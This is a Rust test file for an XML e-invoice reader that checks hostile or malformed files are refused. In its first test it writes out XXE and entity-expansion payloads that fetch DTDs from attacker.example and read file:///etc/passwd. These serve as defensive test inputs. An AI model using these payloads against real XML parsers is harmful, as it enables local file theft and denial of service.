//! Files made to hurt or to be read in two ways.

use crate::sample::{accepted, refused, replaced, replaced_once, ubl};
use proptest::prelude::*;
use tradeseal_documents::{MAX_BYTES, SAMPLE_CII_INVOICE, SAMPLE_UBL_INVOICE, read_invoice};

#[test]
fn a_document_type_declaration_is_refused_in_every_guise() {
    for declaration in [
        "<!DOCTYPE Invoice>",
        "<!DOCTYPE Invoice SYSTEM \"https://attacker.example/invoice.dtd\">",
        "<!DOCTYPE Invoice [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE Invoice [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;&a;\">]>",
        "<!DOCTYPE Invoice [<!ENTITY % p SYSTEM \"http://attacker.example/\"> %p;]>",
    ] {
        let text = replaced_once(SAMPLE_UBL_INVOICE, "<Invoice ", &format!("{declaration}<Invoice "));
        refused(text, "document_type_declaration", &["DOCTYPE"]);
    }
}

#[test]
fn an_undefined_entity_is_refused_and_a_predefined_one_is_read() {
    refused(
        ubl("<cbc:ID>NW", "<cbc:ID>&company;"),
        "entity_reference",
        &["\"company\""],
    );
    assert_eq!(
        accepted(&ubl("<cbc:ID>NW", "<cbc:ID>R&amp;D&#x2D;")).invoice_number,
        "R&D--2026-0914"
    );
}

#[test]
fn nothing_follows_the_invoice() {
    refused(format!("{SAMPLE_UBL_INVOICE}<Invoice/>"), "not_well_formed", &[]);
    refused("", "not_well_formed", &[]);
    refused(
        ubl("</cbc:ProfileID>", "</cbc:Profile>"),
        "not_well_formed",
        &["cbc:ProfileID", "at 7:"],
    );
    refused(
        &SAMPLE_UBL_INVOICE[..SAMPLE_UBL_INVOICE.len() / 2],
        "not_well_formed",
        &[],
    );
}

#[test]
fn expensive_structure_is_refused_before_it_is_parsed() {
    let body = |inside: &str| {
        replaced_once(
            SAMPLE_UBL_INVOICE,
            "<cac:OrderReference>",
            &format!("{inside}<cac:OrderReference>"),
        )
    };
    refused(
        body(&format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000))),
        "too_complex",
        &["64 levels of nesting"],
    );
    refused(
        body(&"<a/>".repeat(500_001)),
        "too_complex",
        &["500000 elements and attributes"],
    );
    let attributes: String = (0..60_000).map(|i| format!(" a{i}=\"\"")).collect();
    refused(
        body(&format!("<a{attributes}/>")),
        "too_complex",
        &["64 attributes on one element"],
    );
    let namespaces: String = (0..37).map(|i| format!(" xmlns:n{i}=\"u{i}\"")).collect();
    refused(
        body(&format!("<a{namespaces}>{}</a>", "<b xmlns:z=\"z\"/>".repeat(1_000))),
        "too_complex",
        &["namespaces in scope"],
    );
    refused(vec![b' '; MAX_BYTES + 1], "file_too_large", &["8388608"]);
}

#[test]
fn encodings_other_than_utf_8_are_refused_by_name() {
    let utf16: Vec<u8> = format!("\u{feff}{SAMPLE_UBL_INVOICE}")
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    refused(utf16, "not_utf8", &["UTF-16"]);
    refused(
        ubl("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\""),
        "not_utf8",
        &["ISO-8859-1"],
    );
    let latin: Vec<u8> = SAMPLE_UBL_INVOICE.chars().map(|c| u8::try_from(c).unwrap()).collect();
    refused(latin, "not_utf8", &["offset"]);
    let marked = format!("\u{feff}{SAMPLE_UBL_INVOICE}");
    assert_eq!(
        accepted(&marked).fingerprint(),
        accepted(SAMPLE_UBL_INVOICE).fingerprint()
    );
}

#[test]
fn files_of_other_kinds_are_named() {
    let error = refused("%PDF-1.7\n...", "not_xml", &["a PDF"]);
    assert!(error.remedy().contains("factur-x.xml"));
    refused("{\"invoice\": 1}", "not_xml", &["JSON"]);
}

#[test]
fn documents_of_other_kinds_are_named_with_what_to_do() {
    for (root, what, advice) in [
        ("CreditNote", "a credit note", "invoice that it refers to"),
        ("Order", "an order", "invoice issued for it"),
        ("StandardBusinessDocument", "an envelope", "out of the envelope"),
        ("CrossIndustryDocument", "a ZUGFeRD 1.0 invoice", "Factur-X"),
        ("Hello", "of an unknown kind", "UBL 2.1 Invoice"),
    ] {
        let error = refused(
            format!("<{root} xmlns=\"urn:x\"/>"),
            "not_an_invoice",
            &[what, root, "urn:x"],
        );
        assert!(error.remedy().contains(advice), "{}", error.remedy());
    }
}

#[test]
fn names_count_only_in_their_namespace() {
    refused("<Invoice/>", "not_an_invoice", &["namespace that is not read"]);
    refused(ubl(":Invoice-2", ":Invoice-1"), "not_an_invoice", &["Invoice-1"]);
    refused(
        ubl(":CommonBasicComponents-2", ":CommonBasicComponents-1"),
        "missing_element",
        &["cbc:InvoiceTypeCode"],
    );
    let cii = replaced(
        SAMPLE_CII_INVOICE,
        "CrossIndustryInvoice:100",
        "CrossIndustryInvoice:12",
    );
    refused(cii, "not_an_invoice", &["CrossIndustryInvoice:12"]);
    let decoy = ubl(
        "<cbc:ID>NW-2026-0914</cbc:ID>",
        "<ID>X</ID><cbc:ID>NW-2026-0914</cbc:ID><x:ID xmlns:x=\"urn:x\">Y</x:ID>",
    );
    assert_eq!(accepted(&decoy).invoice_number, "NW-2026-0914");
}

#[test]
fn prefixes_mean_nothing() {
    let plain = accepted(SAMPLE_CII_INVOICE);
    let swapped = replaced(SAMPLE_CII_INVOICE, "ram", "cbc");
    let swapped = replaced(&replaced(&swapped, "udt", "ram"), "rsm", "cac");
    assert_eq!(accepted(&swapped).fingerprint(), plain.fingerprint());
}

#[test]
fn an_invoice_hidden_in_an_extension_is_not_read() {
    let hidden = "<x:Extension xmlns:x=\"urn:x\"><cbc:ID>OTHER</cbc:ID></x:Extension><cac:OrderReference>";
    assert_eq!(
        accepted(&ubl("<cac:OrderReference>", hidden)).invoice_number,
        "NW-2026-0914"
    );
}

proptest! {
    #[test]
    fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..512)) {
        prop_assert!(read_invoice(&bytes).is_err());
    }

    #[test]
    fn arbitrary_markup_never_panics(text in "(<[a-z:!?/]{0,6}|[ =\"'>&;/a-z\\[\\]-]{0,4}|xmlns:?|<!--|-->|<!\\[CDATA\\[|\\]\\]>){0,40}") {
        prop_assert!(read_invoice(text.as_bytes()).is_err());
    }

    /// Reading either fails with a remedy or gives an amount and a fingerprint, whatever bytes change.
    #[test]
    fn a_damaged_invoice_is_read_or_refused(cii in any::<bool>(), at in any::<prop::sample::Index>(), bytes in prop::collection::vec(any::<u8>(), 0..4), cut in 0usize..4) {
        let mut text = if cii { SAMPLE_CII_INVOICE } else { SAMPLE_UBL_INVOICE }.as_bytes().to_vec();
        let at = at.index(text.len());
        let end = (at + cut).min(text.len());
        text.splice(at..end, bytes);
        match read_invoice(&text) {
            Ok(invoice) => prop_assert!(invoice.amount_minor.0 > 0 && !invoice.invoice_number.is_empty()),
            Err(error) => prop_assert!(!error.code().is_empty() && !error.remedy().is_empty() && error.to_string().len() < 1024),
        }
    }
}
